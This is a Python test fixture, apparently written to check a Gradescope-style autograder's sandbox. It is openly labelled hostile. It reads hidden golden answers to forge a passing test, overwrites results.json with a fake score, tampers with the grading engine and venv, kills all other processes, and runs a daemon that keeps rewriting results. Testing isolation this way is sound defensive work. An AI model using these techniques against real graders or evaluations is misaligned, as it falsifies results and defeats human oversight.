# ruff: noqa  (hostile code on purpose; run by test_gradescope.py inside a Gradescope layout)
"""Attack: a submission graded by Gradescope's run_autograder in a container without bubblewrap
(the grader is root, the child runs as a slot uid). The public child tries, and reports what
happened in test_add's visible message as SEEN{json}SEEN:
reading the hidden goldens and listing /autograder/source; writing results.json directly;
rewriting the engine in /autograder/source; planting a .pth in the grader's venv; killing every
other process (run_autograder, the grader); a daemon that keeps rewriting results.json after
the grader is done; files left in /tmp, /var/tmp and /dev/shm for later runs.
The hidden child answers its test from the goldens when it can read them (a forged pass).
"""
import json
import os
import signal
import sys
import time

CONFIG = json.load(open(sys.argv[1]))
HIDDEN_CHILD = any("/hidden/" in f for f in CONFIG["test_files"])
GOLDENS = "/autograder/source/tests/toy/goldens/hidden.json"
RESULTS = "/autograder/results/results.json"
FORGED = json.dumps({"score": 7.0, "output": "forged", "tests": []})


def attempt(action):
    try:
        return action()
    except Exception as e:
        return type(e).__name__


def _write(path, text, mode="w"):
    with open(path, mode) as f:
        f.write(text)
    return "written"


def _kill_others():
    mine = {os.getpid(), os.getppid()}
    killed = 0
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in mine:
            try:
                os.kill(int(pid), signal.SIGKILL)
                killed += 1
            except OSError:
                pass
    return killed


def _daemon():
    if os.fork():
        return "started"
    os.setsid()
    if os.fork():
        os._exit(0)
    for _ in range(400):  # about 20 s
        for path in (RESULTS, "/autograder/results/forged.json"):
            try:
                _write(path, FORGED)
            except OSError:
                pass
        time.sleep(0.05)
    os._exit(0)


SEEN = {}
if not HIDDEN_CHILD:
    SEEN = {
        "uid": os.getuid(),
        "read_goldens": attempt(lambda: open(GOLDENS).read() and "read"),
        "list_source": attempt(lambda: os.listdir("/autograder/source") and "listed"),
        "write_results": attempt(lambda: _write(RESULTS, FORGED)),
        "write_engine": attempt(lambda: _write("/autograder/source/autograder/grading/pipeline.py",
                                               "\nraise SystemExit\n", "a")),
        "plant_venv_pth": attempt(lambda: _write(
            f"/opt/runner/venv/lib/python3.11/site-packages/zz_attack.pth", "import os\n")),
        "killed_others": attempt(_kill_others),
        "daemon": attempt(_daemon),
        "leftovers": [attempt(lambda p=p: _write(p, "x" * 2**20))
                      for p in ("/tmp/zz_leftover", "/var/tmp/zz_leftover",
                                "/dev/shm/zz_leftover")],
    }


def add(a, b):
    raise RuntimeError("SEEN" + json.dumps(SEEN) + "SEEN")


def mean(xs):
    try:
        goldens = json.load(open(GOLDENS))
    except OSError:
        raise NotImplementedError
    return goldens["tests"]["test_mean"]["observations"]["mean"]["expected"]


def order(xs):
    raise NotImplementedError
